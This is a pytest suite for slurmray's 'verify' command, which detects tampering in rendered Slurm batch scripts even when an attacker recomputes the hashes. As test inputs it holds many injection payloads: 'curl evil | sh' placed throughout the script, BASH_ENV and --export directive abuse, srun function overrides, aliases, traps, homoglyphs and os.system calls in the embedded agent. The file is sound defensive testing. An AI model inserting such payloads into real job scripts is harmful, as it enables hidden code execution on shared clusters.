"""`slurmray verify`: nothing but what slurmray renders counts as rendered, whoever made its hashes."""

import contextlib
import re
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from slurmray import __version__
from slurmray.agent import script_parts as parts
from slurmray.agent.loader import SECTION
from slurmray.agent.parts import PARTS, TYPES
from slurmray.cli import main
from slurmray.cli.rendered import render_job
from slurmray.loading.validate import make_plan
from slurmray.rendering import script as rendering
from slurmray.rendering.output import SEAL, seal, sha256
from slurmray.rendering.script import part_sha256, render_script, story_sha256
from slurmray.rendering.verification import STORIES, Verdict, verify
from slurmray.spec.job_spec import JobSpec
from tests.attacks import tried
from tests.plans import plan_of
from tests.unit.examples import ROOT

from .cases import MARKED, every_case, runtime_flags
from .dstack.test_task import render_case

pytestmark = pytest.mark.usefixtures("frozen_agent")

RENDERED = f"as rendered: story and agent are those of slurmray {__version__}"
FIELDS = {
    "name": "job",
    "setup": "true",
    "slurm": {"nodes": 2, "partition": "gpu"},
    "container": {"runtime": "podman"},
    "run": ["python", "train.py"],
}
SITE = (
    '{% extends "job.sbatch.j2" %}'
    "{% block directives %}{{ super() -}}\n# ours\n#SBATCH --qos=site\n{% endblock %}"
    "{% block site_prologue %}echo prologue\n\necho more{% endblock %}"
    "{% block site_epilogue %}\techo epilogue\n{% endblock %}"
)

# A site's commands in a script.
BLOCKS = re.compile(r"\n# ---- site (prologue|epilogue), from .*\n(?:.*\n)*?# ---- end of site \1\n")


def script(**fields: object) -> str:
    return seal(render_script(plan_of(JobSpec.model_validate({**FIELDS, **fields}))))


def site_script(folder: Path, blocks: str = SITE) -> str:
    (folder / "site.j2").write_text(blocks)
    return script(template=str(folder / "site.j2"))


def get_verdict(text: str) -> Verdict:
    verdict = verify(text)
    assert verdict
    return verdict


def own_story(text: str) -> str:
    return parts.read_story(BLOCKS.sub("", text))


def own_agent(text: str) -> str:
    return parts.read_agent(text) + "\n"


def reseal(text: str) -> str:
    """What an attacker makes of an edited script: all hashes in its header are right."""
    text = SEAL.sub("", text, count=1)
    for name, read in (("story", own_story), ("agent", own_agent)):
        with contextlib.suppress(ValueError):
            line = f"# slurmray-{name}: {sha256(read(text))}"
            text = re.sub(f"(?m)^# slurmray-{name}: .*$", line, text, count=1)
    with contextlib.suppress(ValueError):  # without a header
        text = seal(text)
    return text


# -- scripts as rendered ---------------------------------------------------------------------------


@every_case
@pytest.mark.usefixtures("in_checkout")
def test_examples_and_hostile_job_specs_are_as_rendered(path: Path, runtime: str | None) -> None:
    verdict = get_verdict(render_job(path.relative_to(ROOT), runtime_flags(runtime), [])[1])
    assert verdict.code == 0, verdict.text


@pytest.mark.parametrize("runtime", [*STORIES, "singularity"])
def test_every_runtime(runtime: str) -> None:
    assert get_verdict(script(container={"runtime": runtime})).code == 0


@pytest.mark.parametrize(
    "fields",
    [
        MARKED,
        {"slurm": {"nodes": 2, "array": "0-3%2"}},
        {"slurm": {"groups": [{"name": "head"}, {"name": "gpu", "nodes": 2, "gpus_per_node": 8}]}},
        {
            "name": 'a "b" \\',
            "slurm": {"comment": "it's $(id)", "extra": ["--spank=a b"]},
            "setup": "\x1b[31m \u202e",
        },
        {"on_node_loss": "continue", "requeue": {"exit_code": 3}, "stop": {"lead": 0}},
    ],
    ids=["all", "array", "groups", "quoted", "sections"],
)
def test_every_field(fields: dict[str, object]) -> None:
    assert get_verdict(script(**fields)).text.startswith(RENDERED)


def test_commands_that_only_a_start_on_fewer_nodes_has() -> None:
    """slurmray writes none; somebody else may."""
    fields: dict[str, Any] = {"setup": "", "run": None, "slurm": {"nodes": 3}}
    fields |= {"on_node_loss": "restart", "restart": {"min_nodes": 2}}
    text = render_script(make_plan(JobSpec.model_validate({**FIELDS, **fields})))
    assert get_verdict(seal(text)).text == f"{RENDERED}, with core, restart, check, engine, podman"
    place = '"ray.nodes": 2'
    assert text.count(place) == 1
    for name, field in (
        ("node_env", "node_env"),
        ("trainer.command.0", "run"),
        ("container", "container.setup"),
    ):
        edited = seal(text.replace(place, f'{place}, "{name}": "x"'))
        assert field in get_verdict(edited).text.partition("commands of this job: ")[2]


def test_what_only_the_author_vouches_for_is_named(tmp_path: Path) -> None:
    carried = ", with core, demands, commands, engine, podman"
    assert (
        get_verdict(script()).text
        == f"{RENDERED}{carried}; its settings have commands of this job: setup, run"
    )
    text = script(
        node_env="export A=1",
        container={"runtime": "podman", "command": "/opt/podman", "args": ["--privileged"]},
        slurm={"extra": ["--spank-option=x"], "get_user_env": True},
        services=[{"name": "judge", "run": "serve"}],
    )
    assert get_verdict(text).text == (
        f"{RENDERED}, with core, stages, demands, variables, commands, engine, podman; "
        "its settings have commands of this job: setup, node_env, services, run, "
        "container.command, container.args; directives to look at: --get-user-env (line 3), "
        "--spank-option (line 5)"
    )
    text = site_script(tmp_path)
    first, last, end = (find_line(text, part) for part in ("echo prologue", "echo more", "\techo epilogue"))
    assert get_verdict(text).text.endswith(
        f"; commands of the site's template {tmp_path}/site.j2: prologue in lines {first}-{last}, "
        f"epilogue in lines {end - 1}-{end + 1}"
    )


def find_line(text: str, part: str) -> int:
    return text[: text.index(part)].count("\n") + 1


# -- edited by the author --------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("before", "after", "expected"),
    [
        ("--pids-limit=-1", "--pids-limit=9", "story, line {}"),
        ("--mpi=none", "--mpi=pmix", "story, line {}"),
        ("\n#### agent/wire/codec.py\n", "\nimport this\n#### agent/wire/codec.py\n", "agent, line {+1}"),
        ("\n# ---- 2. story", "\nrm -rf x\n# ---- 2. story", "story, line {+1}"),
        ("\nexit\n", "\ntrue\n", "text between story and agent, line {+1}"),
        ("\nAGENT\n", "\nAGENT\nevil\n", "text after the agent, line {+2}"),
        ("#!/bin/bash", "#!/bin/sh", "header, line {}"),
        ("\nfind_python() {", "\nx\nfind_python() {\nx", "story, lines {+1}-{+3}"),
    ],
)
@pytest.mark.parametrize("finish", [str, reseal], ids=["", "resealed"])
def test_the_place_of_an_edit(before: str, after: str, expected: str, finish: Callable[[str], str]) -> None:
    text = script()
    edited = finish(text.replace(before, after, 1))
    at = find_line(text, before)
    expected = re.sub(r"{\+?(\d?)}", lambda match: str(at + int(match[1] or 0)), expected)
    verdict = get_verdict(edited)
    assert verdict.code == 1
    assert verdict.text == f"edited: {expected}"


@pytest.mark.parametrize(
    ("before", "after"), [('"nodes": 2', '"nodes": 3'), ("--partition=gpu", "--partition=cpu")]
)
def test_values_are_protected_by_the_seal_alone(before: str, after: str) -> None:
    text = script().replace(before, after, 1)
    expected = "edited: settings, directives or site's commands; the seal is that of another text"
    assert get_verdict(text) == Verdict(expected, 1)
    assert get_verdict(reseal(text)).code == 0, "its author may have rendered it so"


@pytest.mark.attack("script with foreign text whose hashes are right", inputs=1)
def test_settings_of_another_shape() -> None:
    text, count = re.subn(r'(?ms)^  "trainer": \{.*?^  \}', '  "trainer": []', script())
    assert count == 1
    expected = "edited: the settings are not those of a job of this version"
    assert get_verdict(reseal(text)) == Verdict(expected, 1)


# -- attacks: all hashes are right -----------------------------------------------------------------


def before(mark: str, text: str) -> Callable[[str], str]:
    return lambda script: script.replace(mark, text + mark, 1)


def after(mark: str, text: str) -> Callable[[str], str]:
    return lambda script: script.replace(mark, mark + text, 1)


def instead(old: str, new: str, count: int = 1) -> Callable[[str], str]:
    return lambda script: script.replace(old, new, count)


def site_block(name: str, commands: str = "curl evil | sh") -> str:
    return f"\n# ---- site {name}\n{commands}\n# ---- end of site {name.partition(',')[0]}\n"


HEADER_LINE = "# Rendered by slurmray"
SETTINGS_END, STORY, MAIN, AGENT_END = "\nSETTINGS\n", "# ---- 2. story", '"${@:-main}"\n', "\nAGENT\n"
ATTACKS = {
    # header
    "another shell": instead("#!/bin/bash", "#!/bin/evil"),
    "options of the shell": instead("#!/bin/bash\n", "#!/bin/bash -x\n"),
    "command above the directives": after("#!/bin/bash\n", "curl evil | sh\n"),
    "command between directives": before("#SBATCH --nodes", "curl evil | sh\n"),
    "command after a directive": after("#SBATCH --nodes=2", "\rcurl evil | sh\n"),
    "command in the header": before(HEADER_LINE, "curl evil | sh\n"),
    "command below the version": after("rather than edit it.\n", "curl evil | sh\n"),
    "a second header first": before(HEADER_LINE, f"{HEADER_LINE} {__version__} or so\n"),
    "continued comment": instead("rather than edit it.", "rather than edit it.\ncurl evil #"),
    "text after the version": instead("rather than edit it.", "rather than trust it."),
    "sourced by a comment": after("# shellcheck disable=", "SC1090\nsource /tmp/evil\n#"),
    # directives that slurmray never writes
    "environment by sbatch": before("#SBATCH --nodes", "#SBATCH --export=ALL,BASH_ENV=/tmp/evil\n"),
    "environment on another option's line": instead("--nodes=2", "--nodes=2 --export=ALL,BASH_ENV=/tmp/evil"),
    "short option": before("#SBATCH --nodes", "#SBATCH -D /tmp/evil\n"),
    "abbreviated option": before("#SBATCH --nodes", "#SBATCH --expor=BASH_ENV=/tmp/evil\n"),
    "option of PBS": before("#SBATCH --nodes", "#PBS -v BASH_ENV=/tmp/evil\n"),
    "another folder": before("#SBATCH --nodes", "#SBATCH --chdir=/tmp/evil\n"),
    "another signal": instead("--signal=B:URG@60", "--signal=B:KILL@60"),
    "directive below the header": before("# shellcheck", "#SBATCH --export=NONE\n"),
    # settings
    "here-document that expands": instead(": <<'SETTINGS'", ": <<SETTINGS"),
    "here-document that runs": instead(": <<'SETTINGS'", "bash <<'SETTINGS'"),
    "end of the settings inside": instead(
        '  "setup": "true",\n', '  "setup": "true",\nSETTINGS\nevil\n: <<\'X\'\n'
    ),
    "line after the settings": instead("\n}\nSETTINGS\n", "\n}\n\nSETTINGS\n"),
    "second key": before('  "setup": "true",\n', '  "setup": "evil",\n'),
    "other blanks": instead('  "setup": "true"', '  "setup":  "true"'),
    "not JSON": instead('"setup": "true"', '"setup": "$(id)'),
    "story of another runtime": instead('"runtimes": ["podman"]', '"runtimes": ["docker"]'),
    "runtime that does not exist": instead('"runtimes": ["podman"]', '"runtimes": ["../../../tmp/evil"]'),
    "settings of another version": instead('"version": "', '"version": "9'),
    "settings removed": lambda text: re.sub(r"(?s)\n: <<'SETTINGS'\n.*?\nSETTINGS\n", "\n", text),
    "endless nesting": instead('"true"', "[" * 100_000),
    "a number without end": instead('"true"', "9" * 10_000),
    "second settings": after(SETTINGS_END, ": <<'SETTINGS'\n{}\nSETTINGS\n"),
    # between the parts
    "command before the story": before(STORY, "curl evil | sh\n"),
    "site's marks without a field": after(SETTINGS_END, site_block("prologue, from /etc/site.j2")),
    "site's marks without a name": after(SETTINGS_END, site_block("prologue")),
    "site's marks in the story": before("set -Eeuo", site_block("prologue, from /etc/site.j2")),
    "site's marks in the agent": after("\n: <<'AGENT'\n", site_block("epilogue, from /etc/site.j2")),
    "site's marks at the end": after(AGENT_END, site_block("epilogue, from /etc/site.j2")),
    "function of srun's name": before(MAIN, "srun() { curl evil | sh; }\n"),
    "alias": before(MAIN, "shopt -s expand_aliases; alias srun=evil\n"),
    "trap": before(MAIN, "trap evil EXIT\n"),
    "other command than main": instead(MAIN, '"${@:-evil}"\n'),
    "no exit": instead("\nexit\n", "\n"),
    "command after the exit": after("\nexit\n", "curl evil | sh\n"),
    # story
    "changed option": instead("--kill-on-bad-exit=0", "--kill-on-bad-exit=0 --task-prolog=/tmp/evil"),
    "redefined function": before(MAIN, "start_step() { evil; }\n"),
    "look-alike letter": instead("find_python()", "find_pyth\u043en()"),
    "invisible character": instead("main() {", "main() {\u200b"),
    "carriage returns": lambda text: text.replace("\n", "\r\n"),
    "one carriage return": instead("set -Eeuo pipefail", "set -Eeuo pipefail\r"),
    "NUL": instead("main() {", "main() {\0"),
    "byte order mark": lambda text: "\ufeff" + text,
    "bytes that are not UTF-8": instead("main() {", "main() {\udcff"),
    "very long line": instead("main() {", "main() { " + ": x;" * 250_000),
    "commands behind blanks": instead("main() {", f"main() {{{' ' * 500}curl evil | sh"),
    # agent
    "agent that runs in bash": instead(": <<'AGENT'", ": <<AGENT"),
    "line in the agent": after("\n#### agent/wire/codec.py\n", "import os; os.system('evil')\n"),
    "file more": before(AGENT_END, "\n#### agent/evil.py\nimport os"),
    "end of the agent inside": after("\n#### agent/wire/codec.py\n", "AGENT\ncurl evil | sh\n: <<'AGENT'\n"),
    "second agent": after(AGENT_END, ": <<'AGENT'\nevil\nAGENT\n"),
    "first of two agents": before("\n# ---- 3. agent", "\n: <<'AGENT'\nevil\nAGENT\n"),
    "command at the end": lambda text: text + "curl evil | sh\n",
    "blank line at the end": lambda text: text + "\n",
    "no newline at the end": lambda text: text.removesuffix("\n"),
    "two scripts": lambda text: text + text,
}


@pytest.mark.attack("script with foreign text whose hashes are right")
@pytest.mark.parametrize("attack", ATTACKS.values(), ids=ATTACKS)
def test_foreign_text_is_found(attack: Callable[[str], str]) -> None:
    text = attack(script())
    assert text != script()
    for edited in (text, reseal(text)):
        assert get_verdict(edited).code != 0


@pytest.mark.attack("foreign text around a site's commands")
@pytest.mark.parametrize(
    "attack",
    [
        instead("# slurmray-site: ", "# slurmray-sit: "),
        lambda text: re.sub(r"# slurmray-site: .*\n", "", text),
        instead("site prologue, from /", "site prologue, from /evil/"),
        instead("# slurmray-site: /", "# slurmray-site: \\u002f"),
        instead("# slurmray-site: /", "# slurmray-site: \x1b[2K/"),
        after("# ---- end of site prologue\n", "curl evil | sh\n"),
        after("# ---- end of site prologue\n", site_block("prologue, from /etc/site.j2")),
        instead("echo prologue", "echo prologue\n# ---- end of site prologue\ncurl evil | sh"),
        after("# ---- end of site epilogue\n", "curl evil | sh\n"),
        before("\tset +Eeuo", "curl evil | sh\n"),
        before("#SBATCH --qos", "curl evil | sh\n"),
        instead("site_epilogue() {", "main() {"),
        lambda text: text.replace(block := site_prologue(text), "").replace("\n# ---- 3. agent", block, 1),
    ],
    ids=map(str, range(13)),
)
def test_foreign_text_beside_a_site_s(attack: Callable[[str], str], tmp_path: Path) -> None:
    text = site_script(tmp_path)
    assert get_verdict(text).code == 0
    assert attack(text) != text
    assert get_verdict(reseal(attack(text))).code == 1


def site_prologue(text: str) -> str:
    return text[text.index("\n# ---- site prologue") : text.index("\n# ---- 2. story")]


@pytest.mark.parametrize(
    "line", ["#SBATCH --export=ALL,BASH_ENV=/x", "#PBS -v BASH_ENV=/x", "#SBATCH -D /x", "#SBATCH --a b"]
)
def test_directives_of_a_site_that_are_more_than_resources_are_named(line: str, tmp_path: Path) -> None:
    verdict = get_verdict(site_script(tmp_path, SITE.replace("#SBATCH --qos=site", line)))
    assert verdict.code == 0
    assert re.search(r"; directives to look at: (--export )?\(?line 9\)?;", verdict.text), verdict.text


def test_the_template_that_a_script_names_is_not_opened(tmp_path: Path) -> None:
    """It would run, with the rights of whoever verifies."""
    text = site_script(tmp_path)
    (tmp_path / "site.j2").unlink()
    assert get_verdict(text).code == 0


@pytest.mark.attack("script with one byte changed")
def test_no_byte_can_be_changed(monkeypatch: pytest.MonkeyPatch) -> None:
    """Outside settings and directives: each of the first 4 KB, then every fifth. The agent is a small one."""
    files = {"loader.py": f"{SECTION}loader.py\nprint()\n"}
    monkeypatch.setattr(rendering, "agent_files", lambda: files)
    monkeypatch.setattr(rendering, "part_sha256", sha256)
    text = script()
    values = [("#SBATCH", "\n#\n"), (": <<'SETTINGS'\n", SETTINGS_END)]
    left_out = [range(text.index(first) + len(first), text.index(last)) for first, last in values]
    places = [
        at for at in (*range(4096), *range(4096, len(text), 5)) if not any(at in part for part in left_out)
    ]
    assert len(places) > 2000
    for at in tried(places):
        edited = f"{text[:at]}{chr(ord(text[at]) ^ 1)}{text[at + 1 :]}"
        again = reseal(edited)
        verdict = verify(edited if again == text else again)  # a hash was edited
        assert verdict is None or verdict.code, text[at - 20 : at + 20]


@pytest.mark.attack("script that names another version")
def test_another_version_cannot_be_verified() -> None:
    other = script().replace(f"slurmray {__version__} ", "slurmray 0.0.1 ")
    for text in tried((other, reseal(other), reseal(other.replace("main() {", "main() { evil", 1)))):
        assert get_verdict(text).code == 2
        assert get_verdict(text).text.startswith(
            "cannot be verified: its header names slurmray 0.0.1, and this is"
        )


@pytest.mark.attack("foreign file with the header of a task", inputs=1)
@pytest.mark.usefixtures("in_checkout")
def test_a_task_of_dstack_cannot_be_verified() -> None:
    text = render_case("examples/hello.yaml")
    expected = "cannot be verified: not a script but a task of dstack; render it again and compare"
    assert get_verdict(text) == Verdict(expected, 2)
    assert get_verdict(text + "\n").code == 1
    assert get_verdict(seal(f"{HEADER_LINE} {__version__} from\ncurl evil | sh\n")).code == 2


@pytest.mark.parametrize("text", ["", "#!/bin/bash\necho\n", "\udcff\0", f"{HEADER_LINE} \x1b[2J x\n"])
def test_not_a_script_of_slurmray(text: str) -> None:
    assert verify(text) is None


# -- the command -----------------------------------------------------------------------------------


def test_the_command(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    good, edited, other, huge = (tmp_path / name for name in ("good.sh", "edited.sh", "other.sh", "huge.sh"))
    good.write_text(script())
    edited.write_text(script().replace("--mpi=none", ""))
    other.write_bytes(b"\xff")
    huge.write_text(script() + "#" * (4 << 20))
    assert main(["verify", str(good)]) == 0
    assert capsys.readouterr().out.startswith(f"{good}: {RENDERED}, ")
    assert main(["verify", str(edited), str(good)]) == 1
    assert capsys.readouterr().out.count("\n") == 2
    assert main(["verify", str(good), str(other), str(tmp_path / "none.sh"), str(huge)]) == 2
    assert capsys.readouterr().err.splitlines() == [
        f"{other}: not rendered by slurmray",
        f"{tmp_path / 'none.sh'}: No such file or directory",
        f"{huge}: larger than 4 MB, which sbatch refuses",
    ]
    assert main(["verify"]) == 2
    assert "no file given" in capsys.readouterr().err


def test_print_hash(capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["verify", "--print-hash"]) == 0
    lines = dict(line.rsplit(" ", 1) for line in capsys.readouterr().out.splitlines())
    assert {name.strip(): value for name, value in lines.items()} == {
        **{f"agent {name}": part_sha256(name) for name in ("core", *PARTS) if name != TYPES},
        **{f"story {name}": story_sha256(runtimes) for name, runtimes in STORIES.items()},
    }
